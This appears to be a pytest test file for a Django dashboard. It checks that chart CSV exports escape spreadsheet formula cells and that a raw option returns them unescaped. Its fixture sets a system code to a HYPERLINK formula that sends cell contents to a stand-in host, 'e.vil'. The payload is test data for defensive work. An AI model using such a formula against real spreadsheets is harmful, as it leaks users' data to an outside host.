"""A chart's CSV download escapes text cells a spreadsheet would run as a formula (a system code such as
=HYPERLINK(...)), keeps numbers as numbers (negative ones too), and ?raw=1 gives the cells as they are."""

import csv
import io

import pytest
from django.urls import reverse

from scoring.dashboards.charts import Chart
from scoring.dashboards.views import _csv_text

pytestmark = pytest.mark.django_db

# Fits a system code (40 characters; PostgreSQL enforces the length).
HOSTILE = '=HYPERLINK("http://e.vil/?"&A1,"x")'


@pytest.fixture
def hostile_system(designed_study):
    # Before the constructed study enrols anyone (the design is fixed from then on).
    designed_study.systems.filter(code="A").update(code=HOSTILE)
    return HOSTILE


def _rows(client, run, **query):
    url = reverse("scoring:chart_csv", args=[run.study.slug, run.pk, "curves"])
    response = client.get(url, query)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_formula_in_a_label_is_escaped_and_raw_gives_it_back(client, hostile_system, scored):
    built, run = scored
    client.force_login(built.study.owner)
    safe = _rows(client, run)
    labels = {cell for row in safe[1:] for cell in row if "HYPERLINK" in cell}
    assert labels and all(cell.startswith("'=HYPERLINK") for cell in labels)
    raw = _rows(client, run, raw="1")
    assert HOSTILE in {cell for row in raw[1:] for cell in row}
    # Only the escaped cells differ: the numbers are the same text in both.
    assert len(safe) == len(raw)
    for a, b in zip(safe, raw, strict=True):
        assert [x for x in a if "HYPERLINK" not in x] == [y for y in b if "HYPERLINK" not in y]


def test_numbers_stay_numbers_and_each_formula_start_is_escaped():
    chart = Chart(
        {},
        ["label", "value"],
        [
            ["=1+2", -0.5],
            ["+cmd", 3],
            ["-2+3", -1e-3],
            ["@SUM(A1)", 0],
            ["\t=1", 1],
            ["\r=1", 1],
            ["-0.5", "+3"],
            ["-1.5e-3", "plain"],
        ],
    )
    rows = list(csv.reader(io.StringIO(_csv_text(chart))))
    assert rows == [
        ["label", "value"],
        ["'=1+2", "-0.5"],
        ["'+cmd", "3"],
        ["'-2+3", "-0.001"],
        ["'@SUM(A1)", "0"],
        ["'\t=1", "1"],
        ["'\r=1", "1"],
        ["-0.5", "+3"],
        ["-1.5e-3", "plain"],
    ]
    assert list(csv.reader(io.StringIO(_csv_text(chart, raw=True))))[1] == ["=1+2", "-0.5"]
